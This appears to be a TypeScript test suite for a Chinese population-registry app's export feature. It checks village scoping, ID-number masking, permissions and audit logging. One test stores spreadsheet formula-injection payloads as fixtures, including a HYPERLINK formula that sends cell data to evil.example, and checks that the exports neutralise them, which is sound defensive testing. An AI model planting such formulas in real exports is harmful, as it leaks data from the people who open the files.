import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeIdNumber, maskIdNumber } from '../lib/idNumber.js';
import { namePinyin } from '../lib/pinyin.js';
import { insertPersons } from '../registry/person.repository.js';
import { birthReport, FUXING, setupTestCase, XINPU, type Client, type TestCase } from '../testing/setup.js';
import { runExport } from './export.cli.js';

/**
 * 新铺村's family-health worker downloads her village's list for the township office; the
 * file must hold her village only, ID numbers masked unless she may and asks for them, nothing
 * a spreadsheet would run as a formula, and every download in the audit log.
 */
let t: TestCase;
let village: Client;
const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'renkou-export-'));

beforeAll(async () => {
  t = await setupTestCase();
  village = await t.as('village');
});
afterAll(async () => {
  await t.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

type Download = { status: number; headers: Record<string, unknown>; raw: Buffer; json: any };

async function download(client: Client, url: string): Promise<Download> {
  const res = await t.app.inject({ method: 'GET', url, headers: client.cookie ? { cookie: client.cookie } : {} });
  let json: unknown;
  try {
    json = JSON.parse(res.body);
  } catch {
    /* a file */
  }
  return { status: res.statusCode, headers: res.headers, raw: res.rawPayload, json };
}

/** The sheet's rows as arrays of cell values, header first. */
async function xlsxRows(raw: Buffer): Promise<unknown[][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(raw as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  wb.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

/** A small RFC 4180 reader, enough for the files we write (every record ends in CRLF). */
function csvRows(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

const column = (rows: unknown[][], header: string) => {
  const i = rows[0]!.indexOf(header);
  expect(i, header).toBeGreaterThanOrEqual(0);
  return rows.slice(1).map((r) => r[i]);
};

const exportAudits = (action: string) =>
  t.db
    .selectFrom('auditLog')
    .select(['username', 'outcome', 'detail'])
    .where('action', '=', action)
    .orderBy('id')
    .execute();

describe('a village worker exports her village’s people', () => {
  it('XLSX: her village only, Chinese headers, readable values, ID numbers masked, audited', async () => {
    const res = await download(village, '/api/exports/persons.xlsx');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml.sheet');
    const disposition = String(res.headers['content-disposition']);
    expect(disposition).toMatch(
      /^attachment; filename="persons_430623101208_\d{4}-\d{2}-\d{2}\.xlsx"; filename\*=UTF-8''/,
    );
    expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toMatch(/^人员名单_新铺村_\d{4}-\d{2}-\d{2}\.xlsx$/);

    const rows = await xlsxRows(res.raw);
    expect(rows[0]).toEqual([
      '姓名',
      '公民身份号码',
      '性别',
      '出生日期',
      '民族',
      '与户主关系',
      '婚姻状况',
      '户口性质',
      '乡镇（街道）',
      '户籍村（社区）',
      '户籍村（社区）代码',
      '户号',
      '人员状态',
      '死亡日期',
      '迁出日期',
    ]);
    expect(column(rows, '姓名').sort()).toEqual(['李建国', '李明', '李桂英', '王秀英'].sort());
    const wife = rows.find((r) => r[0] === '王秀英')!;
    expect(wife.slice(0, 13)).toEqual([
      '王秀英',
      maskIdNumber(t.people.ids.wife),
      '女',
      '1992-06-01',
      '汉族',
      '配偶',
      '已婚',
      '农业',
      '三封寺镇',
      '新铺村',
      XINPU,
      `${XINPU}0001`,
      '在册',
    ]);
    for (const id of column(rows, '公民身份号码')) expect(id).toMatch(/^430623\*{8}\d{3}[\dX]$/);
    expect(JSON.stringify(rows)).not.toContain(t.people.ids.wife);
    expect(JSON.stringify(rows)).not.toContain('复兴村');

    const audit = (await exportAudits('person.export')).at(-1)!;
    expect(audit.username).toBe('village');
    expect(audit.detail).toMatchObject({ format: 'xlsx', unmasked: false, rows: 4 });
  });

  it('CSV: UTF-8 with a byte-order mark by default, the same rows', async () => {
    const res = await download(village, '/api/exports/persons.csv?sex=2');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect([...res.raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRows(res.raw.toString('utf8').slice(1));
    expect(rows[0]![0]).toBe('姓名');
    expect(column(rows, '姓名').sort()).toEqual(['李桂英', '王秀英'].sort());
    expect(column(rows, '户籍村（社区）代码')).toEqual([`\t${XINPU}`, `\t${XINPU}`]);
  });

  it('GBK: decodes right as GB18030, with no byte-order mark', async () => {
    const res = await download(village, '/api/exports/persons.csv?encoding=gbk&q=李建国');
    expect(res.headers['content-type']).toBe('text/csv; charset=gb18030');
    expect(res.raw[0]).not.toBe(0xef);
    expect(res.raw.includes(Buffer.from('李建国', 'utf8'))).toBe(false);
    const rows = csvRows(iconv.decode(res.raw, 'gbk'));
    expect(rows.map((r) => r[0])).toEqual(['姓名', '李建国']);
    expect(rows[1]!.slice(2, 7)).toEqual(['男', '1988-04-12', '汉族', '户主', '已婚']);
    expect((await exportAudits('person.export')).at(-1)!.detail).toMatchObject({
      format: 'csv',
      encoding: 'gb18030',
      rows: 1,
    });
  });

  it('the filters of the list apply: status, household, and a unit outside her scope gives nothing', async () => {
    expect(
      csvRows((await download(village, '/api/exports/persons.csv?status=dead')).raw.toString('utf8')),
    ).toHaveLength(1);
    const intruder = await t.as('village2');
    const res = await download(intruder, `/api/exports/persons.csv?unitId=${XINPU}`);
    expect(res.status).toBe(200);
    expect(csvRows(res.raw.toString('utf8'))).toHaveLength(1);
    // The file name names the caller's own village, not the one she probed.
    expect(decodeURIComponent(String(res.headers['content-disposition']).split("UTF-8''")[1]!)).toContain('复兴村');
    const mine = csvRows(
      (await download(intruder, `/api/exports/persons.csv?householdId=${t.people.hFuxing}`)).raw.toString('utf8'),
    );
    expect(
      mine
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual(['张小红', '曾志强'].sort());
  });

  it('a township officer narrows her township to one village', async () => {
    const township = await t.as('township');
    const rows = csvRows((await download(township, `/api/exports/persons.csv?unitId=${FUXING}`)).raw.toString('utf8'));
    expect(column(rows, '户籍村（社区）')).toEqual(['复兴村', '复兴村']);
  });
});

describe('full ID numbers', () => {
  it('come out only for a permitted user who asks, and the audit says so', async () => {
    const rows = await xlsxRows((await download(village, '/api/exports/persons.xlsx?unmasked=true')).raw);
    expect(column(rows, '公民身份号码')).toContain(t.people.ids.wife);
    expect((await exportAudits('person.export')).at(-1)!.detail).toMatchObject({ unmasked: true, rows: 4 });
    const csv = (await download(village, '/api/exports/persons.csv?unmasked=true&q=王秀英')).raw.toString('utf8');
    expect(csvRows(csv)[1]![1]).toBe(`\t${t.people.ids.wife}`);
  });

  it('a county administrator (no person.revealId) is refused when asking, masked otherwise; refusals are audited', async () => {
    const admin = await t.as('admin');
    const refused = await download(admin, '/api/exports/persons.xlsx?unmasked=true');
    expect(refused.status).toBe(403);
    expect((await exportAudits('person.export')).at(-1)).toMatchObject({ username: 'admin', outcome: 'denied' });
    const rows = await xlsxRows((await download(admin, '/api/exports/persons.xlsx')).raw);
    expect(rows).toHaveLength(7);
    expect(JSON.stringify(rows)).not.toContain(t.people.ids.wife);
  });

  it('a full ID number typed as the search is kept masked in the audit row', async () => {
    const res = await download(village, `/api/exports/persons.csv?q=${t.people.ids.husband}`);
    expect(csvRows(res.raw.toString('utf8'))).toHaveLength(2);
    const all = JSON.stringify(await t.db.selectFrom('auditLog').select('detail').execute());
    expect(all).not.toContain(t.people.ids.husband);
  });
});

describe('formula injection', () => {
  beforeAll(async () => {
    const person = (name: string, seq: number) => {
      const id = makeIdNumber('430623', '1990-01-01', seq);
      const py = namePinyin('某');
      return {
        id: randomUUID(),
        countyCode: '430623',
        idNumberSealed: t.sealer.seal(id),
        idNumberHash: t.sealer.lookupHash(id),
        idNumberMasked: maskIdNumber(id),
        name,
        namePinyin: py.full,
        nameInitials: py.initials,
        sex: 1 as const,
        birthDate: '1990-01-01',
        ethnicity: '01',
        hukouType: 'rural' as const,
        hukouUnitId: XINPU,
        residenceUnitId: XINPU,
        householdId: null,
        relationship: null,
        motherId: null,
        fatherId: null,
        spouseId: null,
        maritalStatus: '10',
        birthOrder: null,
        status: 'active' as const,
        deathDate: null,
        leftDate: null,
        history: { validFrom: '1990-01-01', change: 'import' },
      };
    };
    await insertPersons(t.db, [
      person('=HYPERLINK("http://evil.example/?"&A1,"点此")', 501),
      person('+1', 503),
      person('@SUM(A1)', 505),
    ]);
    await t.db.updateTable('household').set({ address: '-1+1 号' }).where('id', '=', t.people.hXinpu).execute();
  });

  it('comes out neutralised in XLSX and CSV', async () => {
    const expected = [`'=HYPERLINK("http://evil.example/?"&A1,"点此")`, "'+1", "'@SUM(A1)"];
    const xlsx = column(await xlsxRows((await download(village, '/api/exports/persons.xlsx')).raw), '姓名');
    const csv = column(
      csvRows((await download(village, '/api/exports/persons.csv')).raw.toString('utf8').slice(1)),
      '姓名',
    );
    for (const names of [xlsx, csv]) {
      expect(names).toEqual(expect.arrayContaining(expected));
      expect(names.filter((n) => /^[=+\-@]/.test(String(n)))).toEqual([]);
    }
    const households = csvRows((await download(village, '/api/exports/households.csv')).raw.toString('utf8').slice(1));
    expect(column(households, '住址')).toEqual(["'-1+1 号"]);
  });
});

describe('households and reports', () => {
  it('households: the village’s households with head, address and members', async () => {
    const rows = await xlsxRows((await download(village, '/api/exports/households.xlsx')).raw);
    expect(rows[0]).toEqual([
      '户号',
      '户主姓名',
      '住址',
      '户口性质',
      '乡镇（街道）',
      '户籍村（社区）',
      '户籍村（社区）代码',
      '在册人数',
    ]);
    expect(rows.slice(1)).toEqual([[`${XINPU}0001`, '李建国', "'-1+1 号", '农业', '三封寺镇', '新铺村', XINPU, 4]]);
    expect((await exportAudits('household.export')).at(-1)!.detail).toMatchObject({ format: 'xlsx', rows: 1 });
  });

  it('reports: the filters of the report list, readable type and status', async () => {
    const created = await village.post('/api/reports', birthReport(t.people));
    expect(created.status).toBe(201);
    const returned = await (
      await t.as('township')
    ).post(`/api/reports/${created.body.id}/return`, { version: created.body.version, reason: '请核实出生体重' });
    expect(returned.status).toBe(200);
    const rows = csvRows(
      (await download(village, '/api/exports/reports.csv?type=birth')).raw.toString('utf8').slice(1),
    );
    expect(rows[0]!.slice(0, 7)).toEqual([
      '报告类型',
      '状态',
      '乡镇（街道）',
      '村（社区）',
      '村（社区）代码',
      '事件日期',
      '报告日期',
    ]);
    expect(rows[1]!.slice(0, 6)).toEqual(['出生', '已退回', '三封寺镇', '新铺村', `\t${XINPU}`, '2026-10-20']);
    expect(rows[1]![7]).toContain('王秀英');
    expect(rows[0]!.slice(8)).toEqual(['报告人', '最后处理时间', '退回原因']);
    expect(rows[1]![10]).toBe('请核实出生体重');
    expect(csvRows((await download(village, '/api/exports/reports.csv?type=death')).raw.toString('utf8'))).toHaveLength(
      1,
    );
    expect((await exportAudits('report.export')).at(-1)!.detail).toMatchObject({
      filters: { type: 'death', queue: 'all' },
      rows: 0,
    });
    const intruder = await t.as('village2');
    expect(csvRows((await download(intruder, '/api/exports/reports.csv')).raw.toString('utf8'))).toHaveLength(1);
  });
});

describe('who may not export', () => {
  it('security and audit administrators (no person.read) get 403 for every list; no session gets 401', async () => {
    for (const u of ['security', 'auditor']) {
      const c = await t.as(u);
      for (const list of ['persons', 'households', 'reports']) {
        expect((await download(c, `/api/exports/${list}.xlsx`)).status, `${u} ${list}`).toBe(403);
      }
    }
    expect((await download(t.anonymous, '/api/exports/persons.csv')).status).toBe(401);
  });

  it('bad input is refused before any file: unknown format, encoding or flag', async () => {
    expect((await download(village, '/api/exports/persons.pdf')).status).toBe(400);
    expect((await download(village, '/api/exports/persons.csv?encoding=big5')).status).toBe(400);
    expect((await download(village, '/api/exports/persons.csv?unmasked=yes')).status).toBe(400);
  });

  it('if the audit row cannot be written, there is no file', async () => {
    await sql`CREATE FUNCTION test_fail_export_audit() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN IF NEW.action = 'person.export' THEN RAISE EXCEPTION 'audit store unavailable'; END IF; RETURN NEW; END $$`.execute(
      t.db,
    );
    await sql`CREATE TRIGGER test_fail_export_audit BEFORE INSERT ON audit_log FOR EACH ROW EXECUTE FUNCTION test_fail_export_audit()`.execute(
      t.db,
    );
    try {
      const res = await download(village, '/api/exports/persons.xlsx');
      expect(res.status).toBe(500);
      expect(res.headers['content-disposition']).toBeUndefined();
      expect(res.json.code).toBe('INTERNAL');
    } finally {
      await sql`DROP TRIGGER test_fail_export_audit ON audit_log`.execute(t.db);
    }
  });
});

describe('the CLI export', () => {
  it('runs as the operator over the whole county, full ID numbers on request, audited as cli', async () => {
    const out = path.join(dir, '全县人员.xlsx');
    const r = await runExport(t.db, t.sealer, 'persons', { out, unmasked: true, status: 'active' });
    expect(r.rows).toBeGreaterThanOrEqual(6);
    const rows = await xlsxRows(fs.readFileSync(out));
    expect(column(rows, '户籍村（社区）')).toEqual(expect.arrayContaining(['新铺村', '复兴村']));
    expect(column(rows, '公民身份号码')).toContain(t.people.ids.fuxingMan);
    expect(fs.statSync(out).mode & 0o077).toBe(0);
    expect(fs.readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
    expect((await exportAudits('person.export')).at(-1)).toMatchObject({
      username: 'cli',
      detail: { unmasked: true, format: 'xlsx' },
    });

    const csv = path.join(dir, 'hh.csv');
    await runExport(t.db, t.sealer, 'households', { out: csv, unit: FUXING, encoding: 'gbk' });
    expect(
      csvRows(iconv.decode(fs.readFileSync(csv), 'gb18030'))
        .slice(1)
        .map((r) => r[1]),
    ).toEqual(['张小红']);
  });

  it('says what is wrong with the options', async () => {
    await expect(runExport(t.db, t.sealer, 'persons', { out: path.join(dir, 'x.txt') })).rejects.toThrow('--format');
    await expect(runExport(t.db, t.sealer, 'persons', { out: path.join(dir, 'x.csv'), unit: '999' })).rejects.toThrow(
      '单位 999 不存在',
    );
    await expect(runExport(t.db, t.sealer, 'persons', { out: path.join(dir, 'x.csv'), sex: '3' })).rejects.toThrow(
      '参数有误',
    );
  });
});
